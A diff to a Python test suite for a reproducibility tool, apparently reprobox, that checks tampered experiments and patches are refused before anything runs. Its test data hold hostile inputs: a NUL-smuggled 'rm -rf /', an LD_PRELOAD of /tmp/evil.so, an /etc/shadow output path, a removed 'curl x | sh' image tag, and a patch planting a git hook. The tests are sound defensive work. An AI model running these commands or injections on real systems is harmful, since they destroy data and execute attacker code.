@@ -3,6 +3,7 @@ middle of a run give one clear message and leave no worktree or container behind
 
 from __future__ import annotations
 
+import hashlib
 import json
 import os
 import signal
@@ -18,6 +19,7 @@ from reprobox.model import OutputFile
 from reprobox.store import Store
 
 from ..conftest import git
+from ..hostile import reseal
 
 DOCKER = "/usr/bin/docker" if Path("/usr/bin/docker").exists() else "docker"
 
@@ -58,8 +60,6 @@ def plant(repo: Path, exp_id: str, **changes: object) -> str:
     """Rewrite a stored experiment with hostile values and a matching id, as an attacker would."""
     store = Store(repo)
     stored = store.load(exp_id)
-    if set(changes) == {"image"}:  # not covered by the id: an edit in place
-        return store.set_image(stored, str(changes["image"])).id
     hostile = replace(stored.experiment, **changes).with_id()  # type: ignore[arg-type]
     return store.save(hostile, stored.environment,
                       {p.name: p.read_bytes() for p in stored.path.iterdir()
@@ -72,7 +72,6 @@ HOSTILE = [
     ("output path", {"outputs": (OutputFile("/etc/shadow", "0" * 64, 1),)}, "outputs[0].path"),
     ("command with NUL", {"command": "python job.py\x00; rm -rf /"}, "command"),
     ("env injection", {"env": {"LD_PRELOAD": "/tmp/evil.so"}}, "env"),
-    ("image tag", {"image": "evil\nRUN curl x | sh"}, "image"),
 ]
 
 
@@ -83,10 +82,11 @@ def test_hostile_capture_is_refused_before_anything_runs(small_project, label, c
     bad = plant(repo, exp_id, **changes)
     for args in (["run", bad, "--backend", "venv"], ["build", bad, "--dry-run"], ["show", bad]):
         proc = cli(*args, cwd=repo)
-        assert proc.returncode == 3, (args, proc.stdout, proc.stderr)
+        assert proc.returncode == 2, (args, proc.stdout, proc.stderr)
         assert "refusing" in proc.stderr and field in proc.stderr, proc.stderr
         assert "Traceback" not in proc.stderr
-    assert not (repo / ".reprobox" / "runs").exists() or not list((repo / ".reprobox/runs").iterdir())
+    runs = repo / ".reprobox" / "local" / "runs"
+    assert not runs.exists() or not list(runs.iterdir())
     assert "worktree" not in git(repo, "worktree", "list").split("\n")[1:2]
 
 
@@ -99,8 +99,14 @@ def test_hostile_patch_is_refused(small_project):
             b"new file mode 100755\n--- /dev/null\n+++ b/.git/hooks/post-checkout\n"
             b"@@ -0,0 +1 @@\n+touch /tmp/pwned\n")
     (folder / "patch.diff").write_bytes(evil)
-    proc = cli("run", exp_id, "--backend", "venv", cwd=repo)
-    assert proc.returncode == 3 and "patch" in proc.stderr and ".git" in proc.stderr, proc.stderr
+    proc = cli("run", exp_id, "--backend", "venv", cwd=repo)  # the seal names the edited file
+    assert proc.returncode == 2 and "patch.diff was changed after capture" in proc.stderr, \
+        proc.stderr
+    # Re-sealed as an attacker would (patch_sha256 too): the patch's own check refuses it.
+    resealed = reseal(folder, experiment=lambda d: d["git"].update(
+        patch_sha256=hashlib.sha256(evil).hexdigest()))
+    proc = cli("run", resealed, "--backend", "venv", cwd=repo)
+    assert proc.returncode == 2 and "patch" in proc.stderr and ".git" in proc.stderr, proc.stderr
     assert len(git(repo, "worktree", "list").strip().splitlines()) == 1
 
 
